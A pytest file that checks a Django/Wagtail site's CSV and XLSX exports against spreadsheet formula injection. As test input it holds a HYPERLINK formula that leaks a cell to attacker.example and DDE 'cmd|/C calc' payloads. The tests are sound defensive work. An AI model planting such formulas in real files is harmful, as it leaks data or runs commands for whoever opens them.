"""Editors' spreadsheet exports are safe to open: what members typed never becomes a formula."""

import csv
import io

from django.urls import reverse

from wagtail.models import WorkflowState

import pytest
from openpyxl import load_workbook

from home.spreadsheets import FORMULA_TRIGGERS, safe_cell
from practices.models import PracticePage

TITLE = '=HYPERLINK("http://attacker.example/?leak="&A2,"Kliknij")'
SOLUTIONS = ["+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1+1"]


@pytest.fixture
def hostile_practices(demo):
    """Practices a member submitted with formula-like text, approved by an editor."""
    titles = []
    for number, solution in enumerate(SOLUTIONS):
        title = TITLE if number == 0 else f"{TITLE} {number}"
        response = demo.client_for("member").post(
            reverse("submit_practice"),
            {
                "title": title,
                "town": demo.user("member").person.municipality_id,
                "networks": [demo.network(1).pk],
                "situation": "Przed.",
                "solution": solution,
                "results": "Wyniki.",
                "funding_source": "own",
                "budget_pln": "1500.50",
                "transferability": "Tak.",
            },
        )
        assert response.status_code == 302
        practice = PracticePage.objects.get(title=title)
        state = WorkflowState.objects.get(object_id=str(practice.pk))
        state.current_task_state.approve(user=demo.user("editor"))
        titles.append(title)
    return titles


def _export(demo, file_format):
    response = demo.client_for("editor").get(reverse("practices_export", args=[file_format]))
    assert response.status_code == 200
    return response.content


def _is_dangerous(value):
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def test_xlsx_export_holds_no_formula(demo, hostile_practices):
    sheet = load_workbook(io.BytesIO(_export(demo, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if _is_dangerous(cell.value)]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    titles = {row[0] for row in rows}
    assert "'" + TITLE in titles  # still readable, shown as written
    solutions = {row[12] for row in rows if row[0].startswith("'=HYPERLINK")}
    assert solutions == {"'" + solution.strip() for solution in SOLUTIONS}  # the form strips
    budgets = {row[7] for row in rows if row[0].startswith("'=HYPERLINK")}
    assert budgets == {1500.5}  # numbers stay numbers


def test_csv_export_holds_no_formula(demo, hostile_practices):
    text = _export(demo, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert not [value for row in rows for value in row if _is_dangerous(value)]
    ours = [row for row in rows if row[0].startswith("'=HYPERLINK")]
    assert len(ours) == len(SOLUTIONS)
    assert "'" + TITLE in {row[0] for row in ours}  # still readable, shown as written
    assert {row[12] for row in ours} == {"'" + solution.strip() for solution in SOLUTIONS}
    assert {row[7] for row in ours} == {"1500.5"}


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+1", "'=1+1"),
        ("+48 600 000 000", "'+48 600 000 000"),
        ("-", "'-"),
        ("@here", "'@here"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Zielona Góra", "Zielona Góra"),
        ("", ""),
        (-5.0, -5.0),
        (1500.5, 1500.5),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def _body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize("report", ["site_history", "aging_pages"])
def test_wagtails_own_report_exports_hold_no_formula(demo, hostile_practices, report):
    """Wagtail's reports list pages by the titles members gave them."""
    url = reverse(f"wagtailadmin_reports:{report}")
    client = demo.client_for("editor")

    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(_body(response).decode("utf-8"))))
    assert not [value for row in rows for value in row if _is_dangerous(value)]
    assert "'" + TITLE in {value for row in rows for value in row}

    response = client.get(url, {"export": "xlsx"})
    assert response.status_code == 200
    assert "private" in response["Cache-Control"]  # still kept out of shared caches
    body = _body(response)
    assert int(response.get("Content-Length", len(body))) == len(body)
    cells = [cell for row in load_workbook(io.BytesIO(body)).active.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if _is_dangerous(cell.value)]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'" + TITLE in {cell.value for cell in cells}
